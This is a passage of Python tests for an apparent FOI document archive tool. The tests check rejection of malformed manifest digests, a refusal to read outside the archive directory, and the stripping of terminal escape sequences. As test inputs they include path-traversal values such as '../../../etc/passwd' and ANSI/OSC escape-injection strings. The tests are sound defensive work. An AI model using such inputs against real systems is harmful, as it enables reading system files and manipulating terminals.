        b"hello", Record("", "import", "a.txt", "2026-01-01T00:00:00Z", "txt", 0, "ok")
    )
    for digest in ("../../../etc/passwd", "/etc/passwd", "AB" * 32, "a" * 63, None):
        archive.append(Record(digest, "import", "x.txt", "2026-01-01T00:00:00Z", "txt", 5, "ok"))  # type: ignore[arg-type]
    archive.append(Record("", "council_site", "http://x/404", "2026-01-01T00:00:00Z", "unknown", 0, "failed", reason="HTTP 404"))  # fmt: skip
    with archive.manifest.open("a") as fh:
        fh.write('[1, 2]\n{"sha256": "x"}\n')
    with caplog.at_level("WARNING"):
        kept = list(archive.records())
    assert [r.sha256 for r in kept] == [good.sha256, ""]
    assert caplog.text.count("skipped") == 7
    with pytest.raises(ValueError):
        archive.path_for("../../../etc/passwd")


def test_build_never_reads_outside_the_archive(tmp_path):
    data = tmp_path / "data"
    sample = ROOT / "foi" / "samples" / "leicester-city-seed.txt"
    assert run_foi("import", str(sample), "--data-dir", str(data)).returncode == 0
    # A council other than Leicester, outside DATA_DIR/raw, named by a crafted manifest line.
    (tmp_path / "outside.txt").write_text(SEED.replace("Leicester", "Rutland") + "\nOUTSIDE\n")
    record = Record("../outside.txt", "import", "outside.txt", "2026-01-01T00:00:00Z", "txt", 10, "ok", authority_code="E06000017", campaign="bruising-nmi-2025")  # fmt: skip
    Archive(data).append(record)
    proc = run_foi("build", "--data-dir", str(data))
    assert proc.returncode == 0, proc.stderr
    assert "'../outside.txt' is not 64 lowercase hex characters" in proc.stderr
    responses = pd.read_parquet(data / "dataset" / "responses.parquet")
    assert list(responses["authority_code"]) == ["E06000016"]
    assert all(len(s) == 64 for s in responses["document_sha256"])


def test_sanitised_stream_strips_escape_sequences():
    from foi.views.terminal import SafeStream

    buf = io.StringIO()
    SafeStream(buf).write("a\x1b[31mb\x1b]0;title\x07c\x9b2Jd\te\nf\x00\x7f\x85")  # type: ignore[arg-type]
    assert buf.getvalue() == "abcd\te\nf"
